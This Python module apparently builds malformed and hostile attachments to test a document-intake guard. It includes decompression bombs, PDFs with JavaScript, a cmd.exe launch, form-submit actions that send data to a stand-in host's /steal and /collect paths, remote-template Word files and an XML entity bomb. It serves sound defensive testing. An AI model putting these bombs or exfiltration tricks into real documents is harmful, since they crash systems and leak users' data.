"""Generators of broken and hostile attachments (and two good ones), built in memory in milliseconds.

Bombs are built without ever holding what they inflate to: a deflate stream of zeros is one compressed
megabyte ended by a full flush (which resets the compressor's history), repeated as often as needed, then
an empty final block. Zips whose headers must lie are written by hand (:func:`zip_bytes`); compound files
(legacy Office, a password-protected .docx) by :func:`compound_file`, a minimal [MS-CFB] writer.
"""

from __future__ import annotations

import io
import math
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from sandbox.forms import applicant, blue_badge_pdf

MB = 1024 * 1024
_CHUNK = MB

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_PROJECT = "application/vnd.ms-office.vbaProject"
ACTIVEX = "application/vnd.ms-office.activeX+xml"
MS_RELATIONSHIPS = "http://schemas.microsoft.com/office/2006/relationships"
OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
REMOTE = "http://198.51.100.7/payload"  # TEST-NET-2: never routed, and nothing here fetches it anyway


# --- the good cases ----------------------------------------------------------------------------------------
def good_pdf(seed: int = 1) -> bytes:
    """A filled-in Blue Badge application, as the council's form produces it."""
    return blue_badge_pdf(applicant(random.Random(seed)))


def good_docx(seed: int = 1, *, hyperlink: bool = False) -> bytes:
    """A simple Word form: a heading and a two-column table of labels and answers."""
    person = applicant(random.Random(seed))
    document = docx.Document()
    document.add_heading("Application for a Blue Badge", level=1)
    table = document.add_table(rows=0, cols=2)
    for name, value in person.items():
        row = table.add_row().cells
        row[0].text, row[1].text = name, str(value)
    if hyperlink:  # an ordinary link to guidance: external, but nothing ever fetches it
        document.part.relate_to("https://www.gov.uk/government/publications/blue-badge", RT.HYPERLINK, True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


# --- deflate streams that inflate to far more than they hold -------------------------------------------------
def _zeros_blocks(total: int) -> bytes:
    """Raw deflate blocks (not final) that inflate to ``total`` zero bytes (a multiple of 1 MB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * (total // _CHUNK)


def _final_block() -> bytes:
    return zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def raw_deflate_zeros(total: int) -> bytes:
    """A complete raw deflate stream (as in a zip) of ``total`` zeros."""
    return _zeros_blocks(total) + _final_block()


def zlib_zeros(total: int) -> bytes:
    """A complete zlib stream (as in a PDF's FlateDecode) of ``total`` zeros. Adler-32 of n zeros is
    ``(n mod 65521) << 16 | 1``."""
    return b"\x78\xda" + raw_deflate_zeros(total) + struct.pack(">I", (total % 65521) << 16 | 1)


def crc32_zeros(total: int) -> int:
    crc, chunk = 0, bytes(_CHUNK)
    for _ in range(total // _CHUNK):
        crc = zlib.crc32(chunk, crc)
    return crc


# --- PDF ---------------------------------------------------------------------------------------------------
def pdf_bytes(objects: list[bytes]) -> bytes:
    """A PDF of the given object bodies (object 1 is the catalogue), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pages_pdf(pages: int, *, indirect_count: bool = False) -> bytes:
    """A PDF of ``pages`` blank pages. ``indirect_count`` stores the page tree's /Count in an object of its
    own (legal, if unusual), so that only walking the tree tells how many pages there are."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
    count = b"%d 0 R" % (3 + pages) if indirect_count else b"%d" % pages
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf_bytes(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%b] /Count %b >>" % (kids, count)]
        + [page] * pages
        + ([b"%d" % pages] if indirect_count else [])
    )


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def _tree(count: bytes, kids: bytes = b"[3 0 R]") -> bytes:
    return b"<< /Type /Pages /Kids %b /Count %b >>" % (kids, count)


# PDFs whose catalogue or page tree is not what the specification says, by what is wrong with it.
ODD_TRAILERS: dict[str, list[bytes]] = {
    "catalogue is a number": [b"42", _tree(b"1"), _PAGE],
    "catalogue is an array": [b"[1 0 R]", _tree(b"1"), _PAGE],
    "no page tree": [b"<< /Type /Catalog >>", _tree(b"1"), _PAGE],
    "page tree is a number": [b"<< /Type /Catalog /Pages 7 >>", _tree(b"1"), _PAGE],
    "page tree is a name": [b"<< /Type /Catalog /Pages /Pages >>", _tree(b"1"), _PAGE],
    "kids is not an array": [_CATALOG, _tree(b"/Many", b"3 0 R"), _PAGE],
    "kids lead back to the root": [_CATALOG, _tree(b"/Many", b"[2 0 R]"), _PAGE],
    "a kid is a number": [_CATALOG, _tree(b"2.5", b"[3 0 R 5]"), _PAGE],
}
# ... and those whose /Count is no count, though the tree itself is sound: the pages are counted instead.
ODD_COUNTS: dict[str, bytes] = {"a real": b"1.5", "a name": b"/Many", "a boolean": b"true", "negative": b"-5",
                                "a string": b"(one)", "missing": b""}  # fmt: skip


def odd_trailer_pdf(kind: str) -> bytes:
    return pdf_bytes(ODD_TRAILERS[kind])


def odd_count_pdf(kind: str, pages: int = 1) -> bytes:
    kids = b"[%b]" % b" ".join(b"%d 0 R" % (3 + i) for i in range(pages))
    count = ODD_COUNTS[kind]
    tree = _tree(count, kids) if count else b"<< /Type /Pages /Kids %b >>" % kids
    return pdf_bytes([_CATALOG, tree] + [_PAGE] * pages)


def flate_bomb_pdf(gib: int = 4, layers: int = 3) -> bytes:
    """One page whose content stream inflates to ``gib`` GiB of zeros through ``layers`` FlateDecode filters;
    the file itself is a few kilobytes."""
    stream = zlib_zeros(gib * 1024 * MB)
    for _ in range(layers - 1):
        stream = zlib.compress(stream, 9)
    filters = b" ".join([b"/FlateDecode"] * layers)
    return pdf_bytes(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d /Filter [%b] >>\nstream\n%b\nendstream" % (len(stream), filters, stream),
        ]
    )


def encrypted_pdf(algorithm: str, user_password: str = "applicant", owner_password: str | None = "council") -> bytes:
    """A one-page PDF encrypted by pypdf's writer: RC4-40, RC4-128, AES-128 or AES-256. An empty
    ``user_password`` gives a PDF anyone can open that still carries an owner password."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf_escaped_name() -> bytes:
    """An owner-password PDF whose trailer spells /Encrypt with a #-escape (/Encr#79pt), which PDF readers
    decode but a byte search for "/Encrypt" misses. Only the trailer changes, so no offset moves."""
    data = encrypted_pdf("AES-128", user_password="")
    trailer = data.rindex(b"trailer")
    return data[:trailer] + data[trailer:].replace(b"/Encrypt", b"/Encr#79pt")


# --- PDFs with active content (and genuine ones with harmless actions) --------------------------------------
def _edited_pdf(change: Callable[[PdfWriter], None], data: bytes | None = None) -> bytes:
    """The good PDF form (or ``data``) cloned into pypdf's writer, changed by ``change``, written out."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data or good_pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    return DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind),
                             **{NameObject(f"/{key}"): value for key, value in entries.items()}})  # fmt: skip


def _text(value: str) -> TextStringObject:
    return TextStringObject(value)


def _set(holder: DictionaryObject, key: str, value: PdfObject) -> None:
    holder[NameObject(key)] = value


def _name_tree(writer: PdfWriter, kind: str, name: str, value: PdfObject) -> None:
    """A one-entry name tree under the catalogue's /Names (``kind``: /JavaScript, /EmbeddedFiles)."""
    names = DictionaryObject()
    _set(names, kind, DictionaryObject({NameObject("/Names"): ArrayObject([_text(name), writer._add_object(value)])}))
    _set(writer._root_object, "/Names", names)


def _widget(writer: PdfWriter, name: str) -> DictionaryObject:
    return next(annotation.get_object() for page in writer.pages for annotation in page.get("/Annots", [])
                if annotation.get_object().get("/T") == name)  # fmt: skip


def _link(writer: PdfWriter, action: DictionaryObject, subtype: str = "/Link") -> None:
    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
                                   NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 200, 70)]),
                                   NameObject("/A"): action})  # fmt: skip
    page = writer.pages[0]
    annotations = page.get("/Annots")
    if annotations is None:
        annotations = ArrayObject()
        _set(page, "/Annots", annotations)
    annotations.get_object().append(writer._add_object(annotation))


def _embedded_file(writer: PdfWriter) -> DictionaryObject:
    stream = StreamObject()
    stream.set_data(b"MZ this stands in for a program")
    _set(stream, "/Type", NameObject("/EmbeddedFile"))
    return DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): _text("invoice.exe"),
                             NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)})})  # fmt: skip


def _javascript(script: str = "app.alert('hello')") -> DictionaryObject:
    return _action("/JavaScript", JS=_text(script))


def _field_script(trigger: str, script: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        _set(_widget(writer, "date_of_birth"), "/AA", DictionaryObject({NameObject(trigger): _javascript(script)}))

    return change


def _xfa(template: bytes) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>' + template + b"</template></xdp:xdp>")
        _set(writer._root_object["/AcroForm"], "/XFA", ArrayObject([_text("template"), writer._add_object(stream)]))

    return change


def _page_action(trigger: str, action: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        _set(writer.pages[0], "/AA", DictionaryObject({NameObject(trigger): action}))

    return change


def _catalog(key: str, value: Callable[[PdfWriter], PdfObject]) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        _set(writer._root_object, key, value(writer))

    return change


def _bookmark(action: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        item = writer.add_outline_item("Section 1", 0)
        _set(item.get_object(), "/A", action)

    return change


def _annotation(subtype: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
                                       NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 70, 70)])})  # fmt: skip
        if subtype == "/FileAttachment":
            _set(annotation, "/FS", _embedded_file(writer))
        page = writer.pages[0]
        page["/Annots"].get_object().append(writer._add_object(annotation))

    return change


def _chained_after_a_web_link(writer: PdfWriter) -> None:
    _link(writer, _action("/URI", URI=_text("https://www.gov.uk/blue-badge"), Next=_javascript()))


# Each PDF a reader would run, launch, send or unpack something from, by how it does it.
ACTIVE_PDFS: dict[str, Callable[[PdfWriter], None]] = {
    "document JavaScript": lambda w: _name_tree(w, "/JavaScript", "init", _javascript()),
    "JavaScript open action": _catalog("/OpenAction", lambda w: _javascript()),
    "document additional action": _catalog("/AA", lambda w: DictionaryObject({NameObject("/WC"): _javascript()})),
    "page open action": _page_action("/O", _javascript()),
    "field keystroke script": _field_script("/K", "this.submitForm('http://198.51.100.7/steal')"),
    "launch a program": lambda w: _link(w, _action("/Launch", F=_text("cmd.exe"))),
    "submit the form": _page_action("/C", _action("/SubmitForm", F=_text("http://198.51.100.7/collect"))),
    "import data": _catalog("/OpenAction", lambda w: _action("/ImportData", F=_text("data.fdf"))),
    "open a remote PDF": _bookmark(_action("/GoToR", F=_text("//198.51.100.7/share/x.pdf"),
                                           D=ArrayObject([NumberObject(0), NameObject("/Fit")]))),
    "open an embedded PDF": lambda w: _link(w, _action("/GoToE", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))),
    "script after a web link": _chained_after_a_web_link,
    "embedded file": lambda w: _name_tree(w, "/EmbeddedFiles", "invoice.exe", _embedded_file(w)),
    "associated file": _catalog("/AF", lambda w: ArrayObject([w._add_object(_embedded_file(w))])),
    "file attachment annotation": _annotation("/FileAttachment"),
    "rich media": _annotation("/RichMedia"),
    "XFA with a script": _xfa(b'<subform><field name="a"><event activity="click"><script>app.alert(1)</script>'
                              b"</event></field></subform>"),
}  # fmt: skip


def active_pdf(kind: str) -> bytes:
    """The good PDF form with one kind of active content from :data:`ACTIVE_PDFS`."""
    return _edited_pdf(ACTIVE_PDFS[kind])


def javascript_under_an_escaped_name() -> bytes:
    """An /OpenAction whose action type is spelled /Java#53cript: a reader decodes the name, a byte search
    for "/JavaScript" does not."""
    data = _edited_pdf(_catalog("/OpenAction", lambda w: _javascript("runScriptXX")))
    escaped = data.replace(b"/JavaScript", b"/Java#53cript").replace(b"runScriptXX", b"runScript")  # no offset moves
    assert len(escaped) == len(data) and b"/JavaScript" not in escaped
    return escaped


# Harmless actions genuine forms carry.
BENIGN_PDFS: dict[str, Callable[[PdfWriter], None]] = {
    "open at page 1 (as Word writes)": _catalog("/OpenAction", lambda w: ArrayObject(
        [w.pages[0].indirect_reference, NameObject("/XYZ"), NullObject(), NullObject(), NumberObject(0)])),
    "go to page 2 on opening": _catalog("/OpenAction", lambda w: _action(
        "/GoTo", D=ArrayObject([w.pages[1].indirect_reference, NameObject("/Fit")]))),
    "link to a web page": lambda w: _link(w, _action("/URI", URI=_text("https://www.gov.uk/blue-badge"))),
    "Acrobat's date format": _field_script("/F", 'AFDate_FormatEx("dd/mm/yyyy");'),
    "Acrobat's date keystroke": _field_script("/K", "AFDate_KeystrokeEx('dd/mm/yyyy')"),
    "Acrobat's number format": _field_script("/F", 'AFNumber_Format(2, 0, 0, 0, "\u00a3", true);'),
    "XFA without scripts": _xfa(b'<subform><field name="a"/></subform>'),
}  # fmt: skip


def benign_pdf(kind: str, data: bytes | None = None) -> bytes:
    """The good PDF form (or ``data``) with one kind of harmless action from :data:`BENIGN_PDFS`."""
    return _edited_pdf(BENIGN_PDFS[kind], data)


def truncated(data: bytes, keep: float = 0.5) -> bytes:
    return data[: int(len(data) * keep)]


# --- zips written by hand ----------------------------------------------------------------------------------
@dataclass(frozen=True)
class Member:
    """One zip entry as it is written: ``data`` already compressed, ``size`` and ``crc`` as declared."""

    name: str
    data: bytes
    size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def deflated(name: str, content: bytes) -> Member:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Member(name, compressor.compress(content) + compressor.flush(), len(content), zlib.crc32(content))


def zip_bytes(members: list[Member]) -> bytes:
    """A zip archive with exactly the headers given: local headers, central directory, end record."""
    out, directory = bytearray(), bytearray()
    for member in members:
        offset, name = len(out), member.name.encode()
        sizes = (member.crc, len(member.data), member.size, len(name))
        out += struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, member.flags, member.method, 0, 0x21, *sizes, 0)
        out += name + member.data
        directory += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, member.flags, member.method, 0, 0x21, *sizes,
                                 0, 0, 0, 0, 0, offset) + name  # fmt: skip
    start = len(out)
    out += directory
    out += struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0)
    return bytes(out)


def docx_members(data: bytes | None = None) -> dict[str, bytes]:
    """The parts of a Word document (by default :func:`good_docx`), by name."""
    with zipfile.ZipFile(io.BytesIO(data or good_docx())) as package:
        return {name: package.read(name) for name in package.namelist()}


def docx_bomb(size: int = 64 * MB) -> bytes:
    """A Word document whose picture honestly declares ``size`` bytes that compress about 1000 to 1."""
    members = [deflated(name, content) for name, content in docx_members().items()]
    blocks = raw_deflate_zeros(size)
    return zip_bytes([*members, Member("word/media/image1.png", blocks, size, crc32_zeros(size))])


def docx_declaring(size: int) -> bytes:
    """A Word document with a part that declares ``size`` bytes (its data is short; a reader would fail)."""
    members = [deflated(name, content) for name, content in docx_members().items()]
    return zip_bytes([*members, Member("word/media/image1.png", raw_deflate_zeros(MB), size, 0)])


def docx_with_many_entries(count: int) -> bytes:
    members = [deflated(name, content) for name, content in docx_members().items()]
    return zip_bytes(members + [deflated(f"customXml/extra{i}.xml", b"<a/>") for i in range(count)])


def lying_docx(gib: int = 2) -> bytes:
    """A Word document whose body declares 20 kB (so the central directory looks harmless) but inflates to
    ``gib`` GiB of zeros. Only a reader that inflates to the end of the data is fooled."""
    members = [deflated(name, content) for name, content in docx_members().items() if name != "word/document.xml"]
    body = Member("word/document.xml", raw_deflate_zeros(gib * 1024 * MB), 20_000, 0)
    return zip_bytes([*members, body])


def lying_index_part(gib: int = 2) -> bytes:
    """A Word document whose [Content_Types].xml declares 1 kB but inflates to ``gib`` GiB: the part the
    guard itself must decompress, in Clerk's own process."""
    members = [deflated(name, content) for name, content in docx_members().items() if name != "[Content_Types].xml"]
    index = Member("[Content_Types].xml", raw_deflate_zeros(gib * 1024 * MB), 1000, 0)
    return zip_bytes([index, *members])


def docx_repacked(change: Callable[[Member], Member]) -> bytes:
    """The good Word document with every member passed through ``change`` (e.g. to set flags or method)."""
    return zip_bytes([change(deflated(name, content)) for name, content in docx_members().items()])


def docx_with_duplicate_part() -> bytes:
    """Two parts named word/document.xml: one reader may take the first, another the second."""
    members = [deflated(name, content) for name, content in docx_members().items()]
    return zip_bytes([*members, deflated("word/document.xml", b"<w:document/>")])


def rezip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def _with_content_types(parts: dict[str, bytes], *, main: str | None = None, extra: str = "") -> None:
    types = parts["[Content_Types].xml"].decode()
    if main:
        types = types.replace(WORD_MAIN, main)
    parts["[Content_Types].xml"] = types.replace("</Types>", extra + "</Types>").encode()


def _with_relationship(parts: dict[str, bytes], rels: str, kind: str, target: str, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    element = f'<Relationship Id="rIdClerk{len(parts)}" Type="{kind}" Target="{target}"{mode}/>'
    current = parts.get(
        rels, f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELATIONSHIPS}"></Relationships>'.encode()
    )
    parts[rels] = current.decode().replace("</Relationships>", element + "</Relationships>").encode()


def docm_renamed() -> bytes:
    """A macro-enabled document (.docm) with its VBA project, as Word saves it, sent under a .docx name."""
    parts = docx_members()
    _with_content_types(parts, main=DOCM_MAIN, extra=f'<Default Extension="bin" ContentType="{VBA_PROJECT}"/>')
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA project stand-in"
    _with_relationship(parts, "word/_rels/document.xml.rels", f"{MS_RELATIONSHIPS}/vbaProject", "vbaProject.bin")
    return rezip(parts)


def docm_main_only() -> bytes:
    """Only the main part's content type says macro-enabled."""
    parts = docx_members()
    _with_content_types(parts, main=DOCM_MAIN)
    return rezip(parts)


def docx_with_vba(*, declared: bool = True) -> bytes:
    """A .docx (ordinary main part) carrying word/vbaProject.bin; ``declared`` adds its content type and
    relationship, otherwise only the part's name gives it away."""
    parts = docx_members()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA project stand-in"
    if declared:
        _with_content_types(parts, extra=f'<Override PartName="/word/vbaProject.bin" ContentType="{VBA_PROJECT}"/>')
        _with_relationship(parts, "word/_rels/document.xml.rels", f"{MS_RELATIONSHIPS}/vbaProject", "vbaProject.bin")
    return rezip(parts)


def docx_with_activex(*, folder: str = "word/activeX") -> bytes:
    """An ActiveX control, as Word stores one: its XML part, its binary, and a control relationship."""
    parts = docx_members()
    parts[f"{folder}/activeX1.xml"] = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    parts[f"{folder}/activeX1.bin"] = b"control state"
    _with_content_types(parts, extra=f'<Override PartName="/{folder}/activeX1.xml" ContentType="{ACTIVEX}"/>')
    relative = folder.removeprefix("word/")
    _with_relationship(
        parts, "word/_rels/document.xml.rels", f"{OFFICE_RELATIONSHIPS}/control", f"{relative}/activeX1.xml"
    )
    return rezip(parts)


def docx_activex_relationship_only() -> bytes:
    """An ActiveX control part under an unusual name, betrayed only by its relationship type."""
    parts = docx_members()
    parts["word/embeddings/ctl1.xml"] = b"<ocx/>"
    _with_relationship(
        parts, "word/_rels/document.xml.rels", f"{MS_RELATIONSHIPS}/activeXControl", "embeddings/ctl1.xml"
    )
    return rezip(parts)


def docx_external_template() -> bytes:
    """Settings that attach a template fetched from another machine when the document opens."""
    parts = docx_members()
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTemplate"/>', settings, count=1)
    if 'xmlns:r="' not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{OFFICE_RELATIONSHIPS}" ', 1)
    parts["word/settings.xml"] = settings.encode()
    _with_relationship(parts, "word/_rels/settings.xml.rels", f"{OFFICE_RELATIONSHIPS}/attachedTemplate",
                       f"{REMOTE}/template.dotm", external=True)  # fmt: skip
    return rezip(parts)


def docx_remote(kind: str) -> bytes:
    """A picture (``"image"``) or a linked OLE object (``"oleObject"``) loaded from another machine."""
    parts = docx_members()
    _with_relationship(parts, "word/_rels/document.xml.rels", f"{OFFICE_RELATIONSHIPS}/{kind}", f"{REMOTE}/{kind}",
                       external=True)  # fmt: skip
    return rezip(parts)


def docx_with_doctype() -> bytes:
    """A content-types part that starts an XML entity bomb ("billion laughs")."""
    parts = docx_members()
    types = parts["[Content_Types].xml"].decode()
    dtd = '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    parts["[Content_Types].xml"] = re.sub(r"(<\?xml[^>]*\?>)", r"\1" + dtd, types, count=1).encode()
    return rezip(parts)


def xlsx_like() -> bytes:
    """An Office package whose main part is a spreadsheet."""
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/></Types>')  # fmt: skip
    return rezip({"[Content_Types].xml": types.encode(), "xl/workbook.xml": b"<workbook/>"})


def pptx_like() -> bytes:
    """An Office package whose main part is a presentation: neither Word nor Excel."""
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'presentationml.presentation.main+xml"/></Types>')  # fmt: skip
    return rezip({"[Content_Types].xml": types.encode(), "ppt/presentation.xml": b"<presentation/>"})


def plain_zip() -> bytes:
    return rezip({"form.pdf": good_pdf(), "notes.txt": b"please see attached"})


def encrypted_docx(password: str = "council") -> bytes:
    """A password-protected Word document as Word writes it: an [MS-OFFCRYPTO] agile-encrypted package
    inside a compound file (made by msoffcrypto-tool, a test dependency)."""
    import msoffcrypto.format.ooxml

    out = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(good_docx())).encrypt(password, out)
    return out.getvalue()


# --- compound files ([MS-CFB], version 3: 512-byte sectors) -------------------------------------------------
_SECTOR = 512
_FREE, _END, _FAT_SECTOR, _DIFAT_SECTOR, _NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFC, 0xFFFFFFFF
_MINI_CUTOFF = 4096


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A compound file holding ``streams`` in the root storage. Streams are padded to 4 kB so that all live
    in regular sectors (no mini stream); the directory lists them as a chain of right siblings."""
    datas = [content.ljust(_MINI_CUTOFF, b"\0") for content in streams.values()]
    data_sectors = [math.ceil(len(content) / _SECTOR) for content in datas]
    entries = 1 + len(streams)
    dir_sectors = math.ceil(entries * 128 / _SECTOR)
    fat_sectors = difat_sectors = 0
    while True:  # the FAT must also cover its own sectors and the DIFAT's
        total = sum(data_sectors) + dir_sectors + fat_sectors + difat_sectors
        need_fat = math.ceil(total / 128)
        need_difat = math.ceil(max(0, need_fat - 109) / 127)
        if (need_fat, need_difat) == (fat_sectors, difat_sectors):
            break
        fat_sectors, difat_sectors = need_fat, need_difat
    fat = [_FREE] * (fat_sectors * 128)
    body = bytearray()
    starts = []
    for content, count in zip(datas, data_sectors, strict=True):
        start = len(body) // _SECTOR
        starts.append(start)
        for i in range(count):
            fat[start + i] = start + i + 1 if i < count - 1 else _END
        body += content.ljust(count * _SECTOR, b"\0")
    first_dir = len(body) // _SECTOR
    for i in range(dir_sectors):
        fat[first_dir + i] = first_dir + i + 1 if i < dir_sectors - 1 else _END
    names = list(streams)
    directory = _directory_entry("Root Entry", 5, child=1 if names else _NO_STREAM)
    for i, (name, start, content) in enumerate(zip(names, starts, datas, strict=True)):
        right = i + 2 if i + 1 < len(names) else _NO_STREAM
        directory += _directory_entry(name, 2, right=right, start=start, size=len(content))
    body += directory.ljust(dir_sectors * _SECTOR, b"\0")
    first_fat = len(body) // _SECTOR
    fat_locations = list(range(first_fat, first_fat + fat_sectors))
    for location in fat_locations:
        fat[location] = _FAT_SECTOR
    first_difat = first_fat + fat_sectors
    for i in range(difat_sectors):
        fat[first_difat + i] = _DIFAT_SECTOR
    body += struct.pack(f"<{len(fat)}I", *fat)
    overflow = fat_locations[109:]
    for i in range(difat_sectors):
        chunk = overflow[i * 127 : (i + 1) * 127]
        following = first_difat + i + 1 if i < difat_sectors - 1 else _END
        body += struct.pack("<128I", *chunk, *[_FREE] * (127 - len(chunk)), following)
    header_difat = fat_locations[:109] + [_FREE] * (109 - min(109, fat_sectors))
    header = struct.pack(
        "<8s16s5H6s9I109I",
        bytes.fromhex("D0CF11E0A1B11AE1"), bytes(16), 0x3E, 3, 0xFFFE, 9, 6, bytes(6),
        0, fat_sectors, first_dir, 0, _MINI_CUTOFF, _END, 0, first_difat if difat_sectors else _END, difat_sectors,
        *header_difat,
    )  # fmt: skip
    return header + bytes(body)


def _directory_entry(name: str, kind: int, *, child: int = _NO_STREAM, right: int = _NO_STREAM, start: int = _END,
                     size: int = 0) -> bytes:  # fmt: skip
    encoded = name.encode("utf-16-le")
    return struct.pack(
        "<64sHBB3I16sIQQIQ",
        encoded, len(encoded) + 2, kind, 1, _NO_STREAM, right, child, bytes(16), 0, 0, 0, start, size,
    )  # fmt: skip


def legacy_doc(size: int = 8 * 1024) -> bytes:
    """A Word 97-2003 document's structure: WordDocument, 1Table and the summary stream."""
    return compound_file(
        {"WordDocument": b"\xec\xa5" + bytes(size), "1Table": bytes(4096), "\x05SummaryInformation": bytes(4096)}
    )


def outlook_msg() -> bytes:
    """An Outlook message saved as a file (a compound file of __substg1.0_ streams)."""
    subject = "Blue Badge application".encode("utf-16-le")
    return compound_file({"__properties_version1.0": bytes(32), "__substg1.0_0037001F": subject})


def compound_encrypted_package() -> bytes:
    """The two streams that mark an encrypted Office package, written by :func:`compound_file`."""
    return compound_file({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": bytes(8192)})
